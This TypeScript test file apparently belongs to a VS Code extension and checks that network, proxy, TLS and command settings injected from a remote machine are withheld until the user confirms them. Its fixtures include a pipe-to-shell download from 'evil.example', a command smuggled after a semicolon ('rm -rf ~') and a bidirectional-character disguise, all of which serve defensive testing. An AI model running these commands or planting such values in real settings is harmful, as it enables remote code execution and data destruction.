import assert from 'node:assert/strict';
import { editorNetSettings, type UserSetting } from '../../../../src/vscode/settings/net-settings';
import {
  confirmationKey,
  gateUserValue,
  scopeInManifest,
  shownValue,
  verdictFor,
  type TrustContext,
  type Withheld,
} from '../../../../src/vscode/settings/setting-trust';

/** What `inspect().globalValue` gives in a remote window: the user's own values with the remote machine's merged over them. */
function mergedUserValues(local: Record<string, unknown>, remote: Record<string, unknown>): Record<string, unknown> {
  return { ...local, ...remote };
}

const REMOTE = {
  'coder.headerCommand': 'curl -s https://evil.example/x | sh',
  'coder.globalFlags': ['--header-command', 'touch /tmp/pwned', '--url', 'https://evil.example'],
  'coder.binaryDestination': '/tmp/evil-bin',
  'coder.tlsCaFile': '/tmp/evil-ca.pem',
  'coder.tlsCertFile': '/tmp/cert.pem',
  'coder.tlsKeyFile': '/tmp/key.pem',
  'coder.insecure': true,
  'http.proxy': 'http://evil.example:3128',
  'http.proxyStrictSSL': false,
};

function context(remoteWindow: boolean, confirmed: string[] = [], scopes: Record<string, string> = {}): TrustContext {
  return { remoteWindow, scopeOf: (s) => scopes[s], isConfirmed: (k) => confirmed.includes(k) };
}

/** The settings source config.ts builds: the merged user values through the gate. */
function gatedSource(values: Record<string, unknown>, ctx: TrustContext, withheld: Withheld[]): UserSetting {
  return (section, key) =>
    gateUserValue(`${section}.${key}`, values[`${section}.${key}`], ctx, (w) => withheld.push(w));
}

describe('settings a remote machine may have set', () => {
  const values = mergedUserValues({ 'coder.useKeyring': true }, REMOTE);

  it('are used as they are in a local window', () => {
    const withheld: Withheld[] = [];
    const net = editorNetSettings(gatedSource(values, context(false), withheld), {});
    assert.equal(net.headerCommand, 'touch /tmp/pwned');
    assert.equal(net.httpsProxy, 'http://evil.example:3128');
    assert.deepEqual(withheld, []);
  });

  it('in a remote window: no command, file, proxy or TLS switch is used until allowed, and each is named', () => {
    const withheld: Withheld[] = [];
    const source = gatedSource(values, context(true), withheld);
    const net = editorNetSettings(source, {});
    assert.equal(net.headerCommand, undefined);
    assert.equal(net.httpsProxy, undefined);
    assert.equal(net.httpProxy, undefined);
    assert.equal(net.caFiles, undefined);
    assert.equal(net.clientCertFile, undefined);
    assert.equal(net.clientKeyFile, undefined);
    assert.equal(net.insecure, undefined);
    assert.equal(net.proxyStrictSsl, undefined);
    assert.equal(source('coder', 'binaryDestination'), undefined);
    // A switch that cannot run or redirect anything is used as it is.
    assert.equal(source('coder', 'useKeyring'), true);
    assert.deepEqual([...new Set(withheld.map((w) => w.setting))].sort(), Object.keys(REMOTE).sort());
    const flags = withheld.find((w) => w.setting === 'coder.globalFlags');
    assert.equal(flags?.kind, 'flags');
    assert.equal(flags?.value, JSON.stringify(REMOTE['coder.globalFlags']));
    assert.equal(withheld.find((w) => w.setting === 'coder.headerCommand')?.value, REMOTE['coder.headerCommand']);
  });

  it('remembers the exact value allowed; a changed value asks again', () => {
    const key = confirmationKey('coder.headerCommand', 'print-headers');
    const ctx = context(true, [key]);
    assert.equal(verdictFor('coder.headerCommand', 'print-headers', ctx), 'confirmed');
    assert.equal(verdictFor('coder.headerCommand', 'print-headers; rm -rf ~', ctx), 'needs-confirmation');
    assert.equal(verdictFor('coder.tlsCaFile', 'print-headers', ctx), 'needs-confirmation', 'keyed by setting too');
    assert.doesNotMatch(key, /print-headers/, 'the store keeps a hash, not the value');
    const withheld: Withheld[] = [];
    const net = editorNetSettings(gatedSource({ 'coder.headerCommand': 'print-headers' }, ctx, withheld), {});
    assert.equal(net.headerCommand, 'print-headers');
    assert.deepEqual(withheld, []);
  });

  it('trusts an application-scoped key (never taken from the remote), not a machine- or window-scoped one', () => {
    const manifest = (scope?: string) => ({
      contributes: { configuration: [{ properties: { 'coder.headerCommand': scope ? { scope } : {} } }] },
    });
    assert.equal(scopeInManifest(manifest('application'), 'coder.headerCommand'), 'application');
    assert.equal(scopeInManifest(manifest(), 'coder.headerCommand'), 'window');
    assert.equal(scopeInManifest(manifest('machine'), 'coder.tlsCaFile'), undefined);
    assert.equal(scopeInManifest({}, 'coder.headerCommand'), undefined);
    for (const [scope, verdict] of [
      ['application', 'trusted'],
      ['machine', 'needs-confirmation'],
      ['window', 'needs-confirmation'],
      [undefined, 'needs-confirmation'],
    ] as const) {
      const ctx = context(true, [], scope ? { 'coder.headerCommand': scope } : {});
      assert.equal(verdictFor('coder.headerCommand', 'print-headers', ctx), verdict, String(scope));
    }
  });

  it('asks only about values that matter: set, and for switches only the weakening side', () => {
    const ctx = context(true);
    assert.equal(verdictFor('coder.headerCommand', '', ctx), 'trusted');
    assert.equal(verdictFor('coder.globalFlags', [], ctx), 'trusted');
    assert.equal(verdictFor('coder.insecure', false, ctx), 'trusted');
    assert.equal(verdictFor('http.proxyStrictSSL', true, ctx), 'trusted');
    assert.equal(verdictFor('wsdoctor.pingCount', 5, ctx), 'trusted');
  });

  it('shows the value with control and bidirectional characters escaped', () => {
    assert.equal(shownValue('echo ok\u202e; rm -rf ~\n'), 'echo ok\\u{202e}; rm -rf ~\\u{a}');
    assert.equal(shownValue('print-headers --json'), 'print-headers --json');
  });
});
